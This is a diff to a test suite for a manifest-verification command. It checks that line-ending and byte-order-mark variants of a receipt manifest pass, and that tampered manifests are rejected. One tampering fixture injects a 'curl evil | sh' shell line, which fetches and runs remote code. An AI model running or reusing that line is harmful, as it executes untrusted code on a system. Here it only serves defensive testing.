@@ -179,17 +179,29 @@ describe('register --aggregate over 50 documents', () => {
     expect(countStatuses(parseResults(clean.stdout))).toEqual({ verified: COUNT, skipped: COUNT + 1 });
 
     const manifest = readFileSync(join(receipts, `${root}.tree.json`), 'utf8');
-    // Laid out otherwise (a checkout with core.autocrlf, jq, a byte order mark): the same value,
+    // As a checkout with core.autocrlf or an editor leaves it (CRLF line endings, a byte order mark):
     // passed over all the same (it was failed, 'no receipt', and its hint said to move it away).
     for (const travelled of [
       manifest.replace(/\n/g, '\r\n'),
-      JSON.stringify(JSON.parse(manifest), null, 4),
       `\uFEFF${manifest}`,
+      `\uFEFF${manifest.replace(/\n/g, '\r\n')}`,
     ]) {
       writeFileSync(join(receipts, `${root}.tree.json`), travelled);
       const again = await verify(['-r', folder, '--receipt-dir', receipts]);
       expect(again.code, describeRun(again)).toBe(0);
       expect(countStatuses(parseResults(again.stdout))).toEqual({ verified: COUNT, skipped: COUNT + 1 });
+    }
+    // Anything that could carry more than the manifest is no manifest to pass over unchecked: laid out
+    // otherwise, a member given twice (JSON.parse keeps the last), bytes after its end, CR in one line only.
+    for (const carrying of [
+      JSON.stringify(JSON.parse(manifest), null, 4),
+      manifest.replace('{\n', '{\n  "description": "#!/bin/sh\\ncurl evil | sh",\n'),
+      `${manifest} \t \t\t \n`,
+      manifest.replace('\n', '\r\n'),
+    ]) {
+      writeFileSync(join(receipts, `${root}.tree.json`), carrying);
+      const again = await verify(['-r', folder, '--receipt-dir', receipts]);
+      expect(again.code, describeRun(again)).toBe(2);
     }
     writeFileSync(join(receipts, `${root}.tree.json`), manifest);
     // A script with a manifest's tail, named as a manifest.
@@ -2995,6 +3007,7 @@ describe('register --aggregate: the manifests of --receipt-dir are trusted for t
       written.replace(/\n/g, '\r\n'),
       JSON.stringify(JSON.parse(written), null, 4),
       `\uFEFF${JSON.stringify(JSON.parse(written))}`,
+      `\uFEFF${written}`,
     ]) {
       writeFileSync(manifest, travelled);
       const again = await onStore(freshStore(), receipts, [bed.path('t6/a.txt')]);
